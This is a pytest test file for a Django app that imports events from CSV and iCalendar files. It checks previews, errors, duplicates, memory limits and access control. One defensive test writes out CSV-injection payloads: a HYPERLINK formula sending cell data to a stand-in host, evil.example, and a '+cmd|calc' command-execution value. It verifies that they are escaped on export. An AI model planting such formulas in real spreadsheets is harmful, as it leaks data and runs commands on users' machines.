# ruff: noqa: E501 (rows of a CSV file, as a spreadsheet writes them)
"""Import from /my/: a CSV or iCalendar file previewed row by row, then imported at once."""

import csv
import io
import re
import tracemalloc

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from events import imports, places
from events.models import Event, ImportBatch, ModerationRecord
from tests.factories import EventFactory, local

S = Event.Status
HEADER = "title,summary,kind,local_start,local_end,timezone,venue,city,country,languages\n"
GOOD = [
    "Study circle 1,Reading the appeal.,lecture,2024-01-21 18:30,2024-01-21 20:00,Europe/Paris,Hall,Paris,FR,fr",
    "Study circle 2,Reading the appeal.,lecture,2024-01-22 18:30,2024-01-22 20:00,,Hall,Lyon,FR,fr",
    "Rally in Quito,March downtown.,rally,2024-01-21T10:00,2024-01-21T12:00,America/Guayaquil,,Quito,Ecuador,es",
    "Film night,A screening.,film,2024-02-03 19:00,2024-02-03 22:00,Europe/Berlin,Kino,Berlin,DE,de en",
    "Exhibition,Posters of a century.,exhibition,2024-03-01 10:00,2024-03-01 18:00,Europe/Madrid,,Madrid,ES,es",
]
BAD = [
    # An unknown country.
    "Bad country,Somewhere.,lecture,2024-01-21 18:30,2024-01-21 20:00,Europe/Paris,Hall,Atlantis,Atlantis,fr",
    # A date that is not one.
    "Bad date,Someday.,lecture,2024-13-45 18:30,2024-01-21 20:00,Europe/Paris,Hall,Paris,FR,fr",
    # The clocks skip 02:30 in Paris that night (summer time begins).
    "DST gap,At night.,lecture,2024-03-31 02:30,2024-03-31 04:00,Europe/Paris,Hall,Paris,FR,fr",
]


def upload(client, organization, content, name="events.csv"):
    file = SimpleUploadedFile(name, content if isinstance(content, bytes) else content.encode())
    return client.post(reverse("my:import_start"), {"organization": organization.pk, "file": file})


def cell_errors(page):
    """{(row number, column): [errors]} as the preview shows them beside their cells."""
    found = {}
    for number, body in re.findall(r'<tr class="row-\w+" id="row-(\d+)">(.*?)</tr>', page, re.S):
        for column, errors in re.findall(
            r'<td class="has-error" data-column="(\w+)">(.*?)</td>', body, re.S
        ):
            found[(int(number), column)] = re.findall(r'<p class="cell-error">(.*?)</p>', errors)
    return found


@pytest.fixture
def csv_file():
    return HEADER + "\n".join(GOOD[:2] + BAD[:1] + GOOD[2:4] + BAD[1:] + GOOD[4:]) + "\n"


def test_preview_shows_each_error_beside_its_cell_and_saves_nothing(
    member_client, organization, commemoration, csv_file
):
    response = upload(member_client, organization, csv_file)
    batch = ImportBatch.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("my:import_preview", args=[batch.pk])

    page = member_client.get(response["Location"]).content.decode()
    errors = cell_errors(page)
    assert set(errors) == {(4, "country"), (7, "local_start"), (8, "local_start")}
    assert errors[(4, "country")] == ["Unknown country “Atlantis”."]
    assert "Not a date and time" in errors[(7, "local_start")][0]
    assert "Europe/Paris" in errors[(8, "local_start")][0]
    assert "5 events can be imported." in page
    assert "3 rows have errors and will be skipped." in page
    assert Event.objects.count() == 0


def test_confirming_creates_the_valid_rows_as_drafts_in_one_go(
    member_client, member, organization, commemoration, csv_file
):
    upload(member_client, organization, csv_file)
    batch = ImportBatch.objects.get()

    response = member_client.post(reverse("my:import_confirm", args=[batch.pk]), {"submit": ""})

    assert response.status_code == 302
    assert response["Location"] == reverse("my:import_report", args=[batch.pk])
    events = Event.objects.order_by("starts_at")
    assert sorted(e.title for e in events) == sorted(line.split(",")[0] for line in GOOD)
    assert {e.status for e in events} == {S.DRAFT}
    assert {e.organization for e in events} == {organization}
    paris = Event.objects.get(title="Study circle 1")
    assert paris.starts_at == local(2024, 1, 21, 18, 30, zone="Europe/Paris")
    assert Event.objects.get(title="Study circle 2").timezone == "Europe/Paris"  # the country's
    assert Event.objects.get(title="Rally in Quito").country.code == "EC"
    assert Event.objects.get(title="Film night").languages == ["de", "en"]
    report = member_client.get(response["Location"]).content.decode()
    assert "5 events created as drafts." in report
    assert "3 rows skipped." in report
    assert "Unknown country “Atlantis”." in report
    # A second confirmation (a double click) creates nothing more.
    member_client.post(reverse("my:import_confirm", args=[batch.pk]), {"submit": ""})
    assert Event.objects.count() == 5


def test_the_member_may_submit_them_all_at_once(member_client, organization, commemoration):
    upload(member_client, organization, HEADER + "\n".join(GOOD[:2]))
    batch = ImportBatch.objects.get()
    member_client.post(reverse("my:import_confirm", args=[batch.pk]), {"submit": "1"})
    assert {e.status for e in Event.objects.all()} == {S.SUBMITTED}
    assert ModerationRecord.objects.filter(to_status=S.SUBMITTED).count() == 2


def test_likely_duplicates_of_existing_events_are_marked(
    member_client, organization, commemoration
):
    existing = EventFactory(
        organization=organization,
        commemoration=commemoration,
        title="Study circle 1",
        city="Paris",
        starts_at=local(2024, 1, 21, 18, zone="Europe/Paris"),
        ends_at=local(2024, 1, 21, 20, zone="Europe/Paris"),
        timezone="Europe/Paris",
        status=S.SUBMITTED,
    )
    upload(member_client, organization, HEADER + "\n".join(GOOD[:2]))
    page = member_client.get(reverse("my:import_preview", args=[ImportBatch.objects.get().pk]))
    page = page.content.decode()
    row = re.search(r'id="row-2">(.*?)</tr>', page, re.S).group(1)
    assert "Likely a duplicate of" in row
    assert reverse("my:event_detail", args=[existing.pk]) in row
    assert "Likely a duplicate of" not in re.search(r'id="row-3">(.*?)</tr>', page, re.S).group(1)


def test_formula_cells_are_kept_as_text_and_exported_escaped(
    member_client, organization, commemoration, moderator
):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    lines = [
        HEADER.strip(),
        f'"{hostile.replace(chr(34), chr(34) * 2)}",+cmd|calc,lecture,2024-01-21 18:30,'
        "2024-01-21 20:00,Europe/Paris,@SUM(1),-Paris,FR,fr",
    ]
    upload(member_client, organization, "\n".join(lines))
    batch = ImportBatch.objects.get()
    member_client.post(reverse("my:import_confirm", args=[batch.pk]), {"submit": ""})
    event = Event.objects.get()
    assert (event.title, event.summary, event.venue, event.city) == (
        hostile,
        "+cmd|calc",
        "@SUM(1)",
        "-Paris",
    )

    committee = Client()
    committee.force_login(moderator)
    response = committee.post(
        "/admin/events/event/", {"action": "export_csv", "_selected_action": [event.pk]}
    )
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )
    exported = dict(zip(rows[0], rows[1], strict=True))
    assert exported["title"] == "'" + hostile
    assert exported["venue"] == "'@SUM(1)"


def test_two_thousand_rows_import_in_bounded_memory(member_client, organization, commemoration):
    line = "Circle {n},Weekly reading.,lecture,2024-0{m}-1{d} 18:30,2024-0{m}-1{d} 20:00,Europe/Paris,Hall,Paris,FR,fr"
    rows = [line.format(n=n, m=1 + n % 9, d=n % 10) for n in range(imports.MAX_ROWS)]
    content = HEADER + "\n".join(rows) + "\n"
    assert len(content) > 190_000
    upload(member_client, organization, content)
    batch = ImportBatch.objects.get()
    # The gazetteer of places is read once per process (by the WSGI module in production),
    # ~90 MB at its peak: read it first, so that what is measured is the import itself.
    places.gazetteer()

    tracemalloc.start()
    tracemalloc.reset_peak()
    member_client.post(reverse("my:import_confirm", args=[batch.pk]), {"submit": ""})
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert Event.objects.count() == imports.MAX_ROWS
    # The bound: 30 MB for 2,000 rows parsed, checked and saved through the services
    # (measured: 8.5 MB on SQLite); the file itself is capped at 5 MB.
    print(f"peak memory importing {imports.MAX_ROWS} rows: {peak / 1e6:.1f} MB")
    assert peak < 30_000_000


def test_more_than_the_maximum_of_rows_is_refused(member_client, organization, commemoration):
    rows = [GOOD[0]] * (imports.MAX_ROWS + 1)
    upload(member_client, organization, HEADER + "\n".join(rows))
    response = member_client.get(reverse("my:import_preview", args=[ImportBatch.objects.get().pk]))
    assert response.status_code == 400
    assert "more than 2000 events" in response.content.decode()
    assert Event.objects.count() == 0


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (b"x" * (50 * 1024 * 1024), "big.csv", "The file is too big: at most 5 MB."),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "events.csv", "holds binary data"),
        (
            HEADER.encode() + GOOD[0].replace("Paris", "Besançon").encode("latin-1"),
            "l.csv",
            "not in UTF-8",
        ),
        (
            b"name;when\nfoo;bar\n",
            "other.csv",
            "the columns title, local_start, local_end are missing",
        ),
    ],
    ids=["50 MB", "not CSV", "latin-1", "other columns"],
)
def test_a_bad_file_gets_a_clear_message_and_saves_nothing(
    member_client, organization, commemoration, content, name, message
):
    response = upload(member_client, organization, content, name)
    if response.status_code == 302:  # read, then refused on its preview
        response = member_client.get(response["Location"])
        assert response.status_code == 400
    else:
        assert response.status_code == 200
        assert ImportBatch.objects.count() == 0
    assert message in response.content.decode()
    assert Event.objects.count() == 0


def test_an_outsider_cannot_import_for_an_organization_not_theirs(
    outsider, member_client, organization, commemoration, csv_file
):
    client = Client()
    client.force_login(outsider)
    response = upload(client, organization, csv_file)
    assert response.status_code == 200
    assert "Select a valid choice" in response.content.decode()
    assert ImportBatch.objects.count() == 0
    # Nor see or confirm a member's waiting file.
    upload(member_client, organization, csv_file)
    batch = ImportBatch.objects.get()
    assert client.get(reverse("my:import_preview", args=[batch.pk])).status_code == 404
    assert client.post(reverse("my:import_confirm", args=[batch.pk])).status_code == 404
    assert Event.objects.count() == 0


def test_anonymous_visitors_are_sent_to_log_in(client):
    response = client.get(reverse("my:import_start"))
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_the_template_is_downloadable_and_imports_as_its_example(
    member_client, organization, commemoration
):
    response = member_client.get(reverse("my:import_template"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    template = response.content.decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(template))) == list(imports.COLUMNS)
    upload(member_client, organization, template.encode("utf-8-sig"))
    batch = ImportBatch.objects.get()
    member_client.post(reverse("my:import_confirm", args=[batch.pk]), {"submit": ""})
    assert list(Event.objects.values_list("title", flat=True)) == ["Study circle on the appeal"]


ICS = """BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//Other calendar//EN
BEGIN:VEVENT
UID:weekly@example.org
DTSTART;TZID=Europe/Paris:20240301T190000
DTEND;TZID=Europe/Paris:20240301T210000
RRULE:FREQ=WEEKLY;COUNT=6
SUMMARY:Weekly study circle
DESCRIPTION:We read the appeal together.
LOCATION:Bourse du travail
END:VEVENT
BEGIN:VEVENT
UID:once@example.org
DTSTART:20240121T090000Z
DTEND:20240121T110000Z
SUMMARY:Online lecture
URL:https://meet.example.org/lenin
END:VEVENT
END:VCALENDAR
"""


def test_icalendar_file_with_a_recurring_event_imports_a_series(
    member_client, organization, commemoration
):
    response = upload(member_client, organization, ICS.replace("\n", "\r\n"), "cal.ics")
    batch = ImportBatch.objects.get()
    assert batch.kind == "ics"
    page = member_client.get(response["Location"]).content.decode()
    assert "2 events can be imported." in page
    assert "repeats: imported as a series (FREQ=WEEKLY;COUNT=6)" in page
    member_client.post(reverse("my:import_confirm", args=[batch.pk]), {"submit": "1"})
    weekly = Event.objects.filter(title="Weekly study circle").order_by("starts_at")
    # Six weekly dates at 19:00 in Paris, across the change to summer time on 31 March.
    assert [e.starts_at for e in weekly] == [
        local(2024, 3, day, 19, zone="Europe/Paris") for day in (1, 8, 15, 22, 29)
    ] + [local(2024, 4, 5, 19, zone="Europe/Paris")]
    assert len({e.series_id for e in weekly}) == 1 and weekly[0].series_id is not None
    assert {e.status for e in weekly} == {S.SUBMITTED}
    assert {e.timezone for e in weekly} == {"Europe/Paris"}
    assert weekly[0].address == "Bourse du travail"
    online = Event.objects.get(title="Online lecture")
    assert online.timezone == "UTC"
    assert online.online_url == "https://meet.example.org/lenin"


def test_a_null_character_in_a_cell_is_refused_with_a_clear_message(
    member_client, organization, commemoration
):
    content = HEADER + GOOD[0].replace("Hall", "Ha\x00ll") + "\n" + GOOD[1] + "\n"
    response = upload(member_client, organization, content)

    assert response.status_code == 200  # the form again, with its message
    assert "This is not a CSV or iCalendar file (it holds binary data)." in (
        response.content.decode()
    )
    assert ImportBatch.objects.count() == 0
    assert Event.objects.count() == 0
